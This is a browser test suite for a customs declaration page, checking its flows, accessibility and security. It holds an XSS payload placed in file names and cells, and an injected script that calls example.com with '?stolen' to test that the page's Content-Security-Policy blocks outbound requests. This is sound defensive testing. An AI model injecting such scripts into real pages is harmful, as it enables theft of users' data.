// What a user does on cape.html, and what the page must not do: node session.mjs BROWSER CAPE_HTML FOLDER
// FOLDER has es003.csv, messy.csv and evil files; pictures of every screen are left in FOLDER/pictures.
import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { address, axe, build, choose, folder, give, input, launch, open, results } from "./driver.mjs";

const pictures = join(folder, "pictures");
mkdirSync(pictures, { recursive: true });
const at = (name) => join(folder, name);
const shot = async (page, name, viewport) => {
  if (viewport) await page.setViewportSize(viewport);
  await page.evaluate(() => { document.querySelector("nav").style.position = "static"; });
  await page.screenshot({ path: join(pictures, `${name}.png`), fullPage: true });
};

async function accessible(page, name) {
  // The worker of a frame can't be looked into; report.html has tests of its own.
  await page.evaluate(axe);
  const found = await page.evaluate(() => window.axe.run(document, { exclude: ["iframe"] }));
  const told = found.violations.map(({ id, nodes }) => `${id}: ${nodes.slice(0, 3).map((node) => node.html).join("\n  ")}`);
  assert.deepEqual(told, [], `accessibility, ${name}`);
}

async function fits(page, name) {
  for (const width of [1920, 1280, 390]) {
    await page.setViewportSize({ width, height: 900 });
    const content = await page.evaluate(() => document.documentElement.scrollWidth);
    assert.ok(content <= width, `${name}: ${content} wide on ${width}`);
  }
  await page.setViewportSize({ width: 1280, height: 900 });
}

/** Every picture at both widths; accessibility in light and dark. */
async function look(page, name) {
  for (const colorScheme of ["light", "dark"]) {
    await page.emulateMedia({ colorScheme });
    await accessible(page, `${name}, ${colorScheme}`);
  }
  await page.emulateMedia({ colorScheme: "light" });
  await fits(page, name);
  await shot(page, `${name}-390`, { width: 390, height: 844 });
  await shot(page, `${name}-1280`, { width: 1280, height: 900 });
}

const show = async (page, task) => {
  await page.locator(`nav a[href="#${task}"]`).click();
  await page.locator(`#${task}`).waitFor();
};

/** A worker ends with its job; the browser says so a moment later. */
async function noWorker(page) {
  for (let tries = 0; page.workers().length > 0; tries += 1) {
    assert.ok(tries < 50, "a worker outlives its job");
    await page.waitForTimeout(100);
  }
}

/** A broker: drops, chooses, builds, saves; another run follows in the same tab. */
async function broker(browser) {
  const { page, done } = await open(browser);
  assert.match(await page.locator("header .scope").textContent(), /cape \d+\.\d+\.\d+, rules as of \d{4}-\d\d-\d\d$/);
  await look(page, "empty");
  await give(page, [at("es003.csv")]);
  assert.match(await page.locator("#status").textContent(), /Choose who files/);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  await look(page, "who");
  assert.equal(await build(page), undefined);
  assert.match(await page.locator(".verdict").textContent(), /^11 entries are ready to upload: \$94,578\.75/);
  const report = page.frameLocator("iframe");
  assert.equal(await report.locator("h1").textContent(), "CAPE declaration");
  // The style and the script of the report live in the frame, by the policy of the page.
  assert.equal(await report.locator("nav").evaluate((nav) => getComputedStyle(nav).position), "sticky");
  assert.ok(await report.locator("thead button").count() > 0);
  await page.locator("#result-body details summary").first().click();
  await look(page, "result");
  const first = await results(page);
  await page.getByRole("button", { name: "Prepare all results as .zip" }).click();
  const archive = page.getByRole("link", { name: /cape-out\.zip/ });
  const [download] = await Promise.all([page.waitForEvent("download"), archive.click()]);
  assert.equal(readFileSync(await download.path()).subarray(0, 2).toString(), "PK");
  // The same again gives the same.
  assert.equal(await build(page), undefined);
  const second = await results(page);
  for (const name of Object.keys(first)) if (name !== "summary.json") assert.ok(first[name].equals(second[name]), name);
  await noWorker(page);
  await done();
}

/** By keyboard alone, from the first Tab to the saved file. */
async function keyboard(browser) {
  const { page, done } = await open(browser);
  await page.keyboard.press("Tab");
  assert.equal(await page.evaluate(() => document.activeElement.className), "skip");
  await give(page, [at("es003.csv")]);
  await page.locator("[name=filer][value=B76]").focus();
  await page.keyboard.press("Space");
  await page.keyboard.press("Enter");
  await page.locator("#result-body .verdict").waitFor();
  assert.equal(await page.evaluate(() => document.activeElement.id), "result-title");
  await done();
}

/** The check of an upload file, the questions and the rules. */
async function others(browser) {
  const { page, done } = await open(browser);
  await show(page, "check");
  await input(page, "#uploads").setInputFiles([at("messy.csv")]);
  await page.locator("#checked article").waitFor();
  const saves = page.locator("#checked a.save");
  assert.deepEqual(await saves.allTextContents(), ["Save messy_001.csv", "Save messy_changes.csv"]);
  await look(page, "check");
  await show(page, "ready");
  await page.locator("#ready-body form").waitFor();
  await page.locator("[name=importers]").fill("12-3456789, 98-7654321");
  await page.locator("[name=routingNumber]").fill("021000022");
  await page.locator("#ready-body button.act").click();
  await page.locator("#ready-result .verdict").waitFor();
  assert.match(await page.locator("#ready-result").textContent(), /^No/);
  assert.ok(!(await page.locator("body").innerHTML()).includes("021000022"), "the routing number shows");
  await look(page, "ready");
  await show(page, "rules");
  await page.locator("#rules-body input").fill("final liquidation");
  const found = page.locator("#rules-body .rule-text").filter({ visible: true });
  assert.ok(await found.count() > 0 && await found.count() < 20);
  await found.first().locator("summary").click();
  await look(page, "rules");
  await done();
}

/** Names of files and cells are text wherever they show. */
async function markup(browser) {
  const { page, done } = await open(browser);
  const header = readFileSync(at("es003.csv"), "utf8").split("\n", 1)[0];
  const rows = readFileSync(at("es003.csv"), "utf8").replaceAll("Marta Quillfeather", "<img src=x onerror=alert(1)>");
  const name = "<img src=x onerror=alert(1)>.csv";
  await give(page, [{ name, mimeType: "text/csv", buffer: Buffer.from(rows) }]);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  assert.equal(await build(page), undefined);
  assert.equal(await page.locator("img, main script, a[href^=javascript]").count(), 0);
  assert.equal(await page.frameLocator("iframe").locator("img").count(), 0);
  assert.ok(header.length > 0 && (await page.locator(".command").textContent()).includes(`"${name}"`));
  await done();
}

/** What can't be read is said, and the page goes on. */
async function garbage(browser) {
  const { page, done } = await open(browser);
  const bytes = Buffer.from(Array.from({ length: 5000 }, (_, n) => (n * 7919) % 251));
  await give(page, [{ name: "noise.bin", mimeType: "", buffer: bytes }]);
  assert.ok(await page.locator("#inputs .file.bad").count() > 0);
  assert.match(await page.locator("#inputs").textContent(), /What to do/);
  await page.getByRole("button", { name: "Remove noise.bin" }).click();
  await give(page, [at("es003.csv")]);
  await choose(page, { day: "2026-05-01", filer: "zz!" });
  assert.match(await build(page), /filer code.*What to do/);
  await choose(page, { filer: "B76" });
  await page.locator("[name=otherFiler]").fill("");
  assert.equal(await build(page), undefined);
  await done();
}

/** A large file: read in pieces, cancelled, read again. */
async function large(browser) {
  const { page, done } = await open(browser);
  await input(page, "#inputs").setInputFiles([at("large.csv")]);
  await page.getByRole("button", { name: "Cancel" }).click();
  await page.getByText("Cancelled.").waitFor();
  await noWorker(page);
  await page.getByRole("button", { name: "Remove large.csv" }).click();
  await give(page, [at("rows.csv")]);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  const started = Date.now();
  assert.equal(await build(page), undefined);
  console.log(`200,000 rows: ${Date.now() - started} ms`);
  await done();
}

/** A page that was altered to call out is stopped by its policy, as far as a browser lets a page say so. */
async function policy(browser) {
  const html = readFileSync(new URL(address), "utf8");
  const declared = /Content-Security-Policy" content="([^"]*)"/.exec(html)[1];
  assert.match(declared, /^default-src 'none'; connect-src 'none'; script-src 'sha256-[^']+' 'sha256-[^']+' 'wasm-unsafe-eval';/);
  assert.ok(!/unsafe-inline|'unsafe-eval'|https?:|data:|\*/.test(declared), declared);
  const altered = join(folder, "altered.html");
  writeFileSync(altered, html.replace("</body>", `<script>fetch("https://example.com/?stolen")</script><img src="https://example.com/i">
<form action="https://example.com/" id="f"></form><iframe src="https://example.com/"></iframe></body>`));
  const context = await browser.newContext();
  const page = await context.newPage();
  const asked = [];
  page.on("response", (response) => { if (response.url().includes("example.com")) asked.push(response.url()); });
  page.on("requestfinished", (request) => { if (request.url().includes("example.com")) asked.push(request.url()); });
  const refused = [];
  page.on("console", (message) => refused.push(message.text()));
  await page.goto(pathToFileURL(altered).href);
  // What script of the page itself might try, were it altered too.
  const tried = await page.evaluate(async () => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
    const calls = [() => fetch("https://example.com/a"), () => fetch("data:text/plain,a"), () => fetch(URL.createObjectURL(new Blob(["a"]))),
      () => new WebSocket("wss://example.com/"), () => new EventSource("https://example.com/"), () => Function("return 1")(),
      () => { if (!navigator.sendBeacon("https://example.com/")) throw new Error("refused"); }];
    let refused = 0;
    for (const call of calls) {
      try { const it = await call(); if (it instanceof EventTarget) await new Promise((_, reject) => { it.onerror = reject; setTimeout(reject, 500); }); } catch { refused += 1; }
    }
    document.getElementById("f").submit();
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { refused, all: calls.length, violations };
  });
  assert.ok(tried.refused >= tried.all - 1, JSON.stringify(tried));
  for (const directive of ["connect-src", "form-action"]) assert.ok(tried.violations.includes(directive), JSON.stringify(tried.violations));
  assert.ok(refused.some((text) => /script/i.test(text)), "the added script ran");
  assert.deepEqual(asked, []);
  await context.close();
}

/** Nothing is kept, whatever was done. */
async function nothingKept(browser) {
  const { page, done } = await open(browser);
  await give(page, [at("es003.csv")]);
  await choose(page, { filer: "B76", day: "2026-05-01" });
  await build(page);
  const kept = await page.evaluate(async () => [localStorage.length, sessionStorage.length, document.cookie, (await indexedDB.databases?.() ?? []).length]);
  assert.deepEqual(kept, [0, 0, "", 0]);
  await done();
}

/** Without script, and in a browser that lacks what the page needs, a sentence says so. */
async function sentences(browser) {
  const context = await browser.newContext({ javaScriptEnabled: false });
  const still = await context.newPage();
  await still.goto(address);
  assert.ok(await still.getByText("Firefox 113").isVisible());
  assert.equal(await still.locator("button, nav").filter({ visible: true }).count(), 0);
  await context.close();
  const old = await (await browser.newContext()).newPage();
  await old.addInitScript(() => { delete window.DecompressionStream; });
  await old.goto(address);
  assert.ok(await old.getByText("Safari 16.4").isVisible());
  await old.context().close();
}

const browser = await launch();
try {
  for (const part of [broker, keyboard, others, markup, garbage, large, policy, nothingKept, sentences]) {
    const started = Date.now();
    await part(browser);
    console.log(`${part.name}: ${Date.now() - started} ms`);
  }
} finally {
  await browser.close();
}
